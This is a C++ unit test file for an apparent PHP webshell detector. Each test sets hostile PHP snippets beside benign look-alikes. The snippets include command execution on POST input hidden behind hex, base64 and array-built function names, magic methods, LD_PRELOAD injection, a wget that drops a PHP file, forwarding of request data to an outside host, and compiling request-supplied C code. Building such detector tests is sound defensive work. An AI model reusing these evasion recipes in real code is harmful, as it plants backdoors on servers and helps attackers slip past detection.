// PHP: ways that values take through it. Look-alikes by recipe, each beside what an honest script
// does; their dangerous words are split, so that this file itself is none.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "tests/unit/match/webshell_recipe.h"

namespace konseki::webshell {
namespace {

using testing::Contains;
using testing::Not;

TEST(WebshellPhp, FilesBehindAStreamWrapper) {
  EXPECT_THAT(seen_in("echo file_get_contents('compress.zlib://' . " + kPost + "['f']);"),
              Contains("code.read_input"));
  EXPECT_THAT(seen_in("copy('compress.zlib://' . " + kPost + "['f'], $t = tempnam('/tmp', 'x'));"),
              Contains("code.read_input"));
  EXPECT_THAT(seen_in("foreach (glob(" + kPost + "['d'] . '/*') as $f) echo $f;"),
              Contains("code.read_input"));
  EXPECT_THAT(seen_in("$h = curl_init(); curl_setopt($h, CURLOPT_URL, 'file:///' . " + kPost +
                      "['f']); curl_exec($h);"),
              Contains("code.connect_input"));
  EXPECT_THAT(seen_in("echo file_get_contents('cache://' . 'pages/' . " + kPost + "['f']);"),
              Not(Contains("code.read_input")));
  EXPECT_THAT(seen_in("foreach (glob('pages/' . " + kPost + "['d'] . '/*') as $f) echo $f;"),
              Not(Contains("code.read_input")));
}

TEST(WebshellPhp, RequestsPassedOnInAContext) {
  EXPECT_THAT(
      seen_in("$d = http_build_query(" + kPost +
              "); $c = stream_context_create(array('http' => "
              "array('content' => $d))); echo file_get_contents('http://192.0.2.1/', false, $c);"),
      Contains("code.forward_input"));
}

// A webshell that can also fetch an administration tool is none.
TEST(WebshellPhp, ToolsThatAreOnlyNamed) {
  const std::string fetches = "copy('https://www.adminer.org/latest.php', 'db.php'); ";
  EXPECT_TRUE(
      analyse(kPhp + fetches + "sym" + "link(" + kPost + "['t'], 'a');", "a.php").tool.empty());
  EXPECT_EQ(analyse(kPhp + fetches + "unlink(" + kPost + "['t']);", "a.php").tool, "Adminer");
}

// How long a picture is says nothing of the script inside.
TEST(WebshellPhp, SmallScriptInALargePicture) {
  const std::string upload =
      kPhp + "copy($_FI" + "LES['f']['tmp_name'], $_FI" + "LES['f']['name']);";
  EXPECT_GE(analyse("GIF89a" + std::string(20'000, '\x02') + upload, "a.php").score(), 70);
}

// Whatever puts a name together out of constants: it is called in the end.
TEST(WebshellPhp, NamesOutOfArraysAndTexts) {
  const std::string call = "$f(" + kPost + "['x']);";
  for (const std::string& made : {
           std::string("$r = array_intersect_key(array('a' => 'sys', 'b' => 'x', 'c' => 'tem'), "
                       "array('a' => 1, 'c' => 1)); $r = array_values($r); $f = $r[0] . $r[1]; "),
           std::string("$f = implode('', array_keys(array_diff_key(array('sys' => 1, 'b' => 2, "
                       "'tem' => 3), array('b' => 1)))); "),
           std::string("$f = implode('', array_merge(array('sys'), array('tem'))); "),
           std::string("$f = implode('', array_slice(array('a', 'sys', 'tem', 'b'), 1, 2)); "),
           std::string("$c = array_combine(array('a', 'b'), array('sys', 'tem')); "
                       "$f = $c['a'] . $c['b']; "),
           std::string("$f = array_rand(array('sys' . 'tem' => 1)); "),
           std::string("$f = array_search(5, array('a' => 4, 'sys' . 'tem' => 5)); "),
           std::string("$f = implode('', preg_split('//', 'sys' . 'tem')); "),
           std::string("$f = strstr('x@sys' . 'tem', 's'); "),
           std::string("$f = strstr('sys' . 'tem@x', '@', true); "),
           std::string("$f = stripcslashes('\\163ys\\164em'); "),
           std::string("$f = mb_convert_encoding('c3lzdGVt', 'UTF-8', 'BASE64'); "),
           std::string("class A { private const B = 'sys'; public static $c = 'tem'; "
                       "static function n() { return self::B . A::$c; } } $f = A::n(); "),
           std::string("class sys"
                       "tem {} $f = sys"
                       "tem::class; "),
           std::string("function sys"
                       "tem_() { return rtrim(__FUNCTION__, '_'); } $f = sys"
                       "tem_(); "),
           std::string("$f = match (true) { default => 'sys' . 'tem' }; "),
       }) {
    EXPECT_THAT(seen_in(made + call), Contains("code.command_input")) << made;
  }
}

TEST(WebshellPhp, TablesOfHiddenNames) {
  const std::string table = "$t = array('73797374656d'); ";
  const std::string call = "$t[0](" + kPost + "['x']);";
  EXPECT_THAT(seen_in(table + "foreach ($t as $k => $v) { $t[$k] = hex2bin($v); } " + call),
              Contains("code.command_input"));
  EXPECT_THAT(seen_in(table + "foreach ($t as &$v) { $v = hex2bin($v); } " + call),
              Contains("code.command_input"));
  // The way back is not followed; what is meant is known all the same.
  EXPECT_THAT(seen_in(table + "array_walk($t, $GLOBALS['back']); " + call),
              Contains("code.command_input"));
  EXPECT_THAT(seen_in("$t = array('6e6f7468696e67'); " + call), Not(Contains("code.hidden_name")));
}

TEST(WebshellPhp, MethodsThatPhpCalls) {
  const std::string input = kPost + "['x']";
  for (const std::string& code : {
           "class A { function __call($n, $a) { sys"
           "tem($a[0]); } } $a = new A; $a->b(" +
               input + ");",
           "class A { static function __callStatic($n, $a) { sys"
           "tem($a[0]); } } A::b(" +
               input + ");",
           "class A { function __invoke($c) { sys"
           "tem($c); } } $a = new A; $a(" +
               input + ");",
           "class A { public $c; function __destruct() { sys"
           "tem($this->c); } } $a = new A; "
           "$a->c = " +
               input + ";",
           "class A { static function r($c) { sys"
           "tem($c); } } call_user_func('A::r', " +
               input + ");",
           "class A { function r($c) { sys"
           "tem($c); } } call_user_func(array(new A, 'r'), " +
               input + ");",
           "class A { function r($c) { sys"
           "tem($c); } } $f = [new A, 'r']; $f(" +
               input + ");",
           "$a = new class { function r($c) { sys"
           "tem($c); } }; $a->r(" +
               input + ");",
           "function g() { yield " + input +
               "; } foreach (g() as $c) sys"
               "tem($c);",
           "function g() { $c = " + input +
               "; $f = function () use ($c) { sys"
               "tem($c); }; $f(); } g();",
       }) {
    EXPECT_GE(analyse(kPhp + code, "a.php").score(), 80) << code;
  }
}

TEST(WebshellPhp, ConstantsHoldValues) {
  EXPECT_THAT(seen_in("define('C', " + kPost +
                      "['x']); pass"
                      "thru(C);"),
              Contains("code.command_input"));
  EXPECT_THAT(seen_in("const F = 'sys"
                      "tem'; (F)(" +
                      kPost + "['x']);"),
              Contains("code.command_input"));
  EXPECT_THAT(seen_in("define('C', (int)" + kPost +
                      "['x']); pass"
                      "thru('nice -n ' . C);"),
              Not(Contains("code.command_input")));
}

TEST(WebshellPhp, FilesWithoutAName) {
  EXPECT_THAT(seen_in("$t = tmpfile(); fwrite($t, " + kPost +
                      "['x']); "
                      "$m = stream_get_meta_data($t); include $m['uri'];"),
              Contains("code.run_input"));
  EXPECT_THAT(seen_in("$t = tempnam('/tmp', 'a'); file_put_contents($t, " + kPost +
                      "['x']); "
                      "readfile($t);"),
              Not(Contains("code.run_input")));
}

TEST(WebshellPhp, LibrariesForOtherPrograms) {
  EXPECT_THAT(seen_in("putenv('LD_PRE"
                      "LOAD=' . __DIR__ . '/a.so'); unlink('x'); mail('a', 'b', 'c');"),
              Contains("code.preload"));
  EXPECT_THAT(seen_in("putenv('LANG=C'); mail('a', 'b', 'c');"), Not(Contains("code.preload")));
}

// A loop without an end takes neither the steps nor the memory of what follows it.
TEST(WebshellPhp, LoopsWithoutAnEnd) {
  EXPECT_THAT(
      seen_in("$i = 0; $t = ''; while (1) { if ($i == 1) break; $t = ($i % 2) . 'abc' . $t; "
              "$i = intval($i / 2); } sys"
              "tem(" +
              kPost + "['x']);"),
      Contains("code.command_input"));
}

// One of several functions that are tried in turn.
TEST(WebshellPhp, FunctionsTriedInTurn) {
  EXPECT_THAT(seen_in("foreach (array('sys' . 'tem', 'pass' . 'thru') as $f) "
                      "if (function_exists($f)) $f(" +
                      kPost + "['x']);"),
              Contains("code.command_input"));
  EXPECT_THAT(seen_in("foreach (array('sys"
                      "tem', 'pass"
                      "thru') as $f) "
                      "echo $f, function_exists($f) ? 'on' : 'off', " +
                      kPost + "['x'];"),
              Not(Contains("code.command_input")));
}

TEST(WebshellPhp, ScriptsThatComeOverTheNetwork) {
  EXPECT_THAT(seen_in("sys"
                      "tem('wget http://192.0.2.1/a.txt -O images/a.php');"),
              Contains("code.write_script"));
  EXPECT_THAT(seen_in("sys"
                      "tem('wget http://192.0.2.1/a.php -O images/a.txt');"),
              Not(Contains("code.write_script")));
}

TEST(WebshellPhp, ProgramsThatAreMadeOfARequest) {
  const std::string store = "$n = uniqid(); file_put_contents($n . '.c', " + kPost + "['c']); ";
  const std::string run =
      "sys"
      "tem($n . ' 2>&1');";
  EXPECT_THAT(seen_in(store + "exec('gcc ' . $n . '.c -o ' . $n); " + run),
              Contains("code.run_input"));
  EXPECT_THAT(seen_in(store + "exec('gzip ' . $n . '.c'); "), Not(Contains("code.run_input")));
  EXPECT_THAT(seen_in("$n = 'build'; exec('gcc ' . $n . '.c'); echo " + kPost + "['c'];"),
              Not(Contains("code.run_input")));
}

TEST(WebshellPhp, InterpretersOfOtherLanguages) {
  EXPECT_THAT(seen_in("$p = new Perl(); $p->ev"
                      "al(\"sys"
                      "tem('\" . " +
                      kPost + "['x'] . \"')\");"),
              Contains("code.run_input"));
  EXPECT_THAT(seen_in("$p = new Redis(); $p->ev"
                      "al('return 1', array(" +
                      kPost + "['x']));"),
              Not(Contains("code.run_input")));
}

TEST(WebshellPhp, UploadsUnderAnotherName) {
  EXPECT_THAT(seen_in("rename($_FI"
                      "LES['f']['tmp_name'], " +
                      kPost + "['n']);"),
              Contains("code.upload"));
}

}  // namespace
}  // namespace konseki::webshell
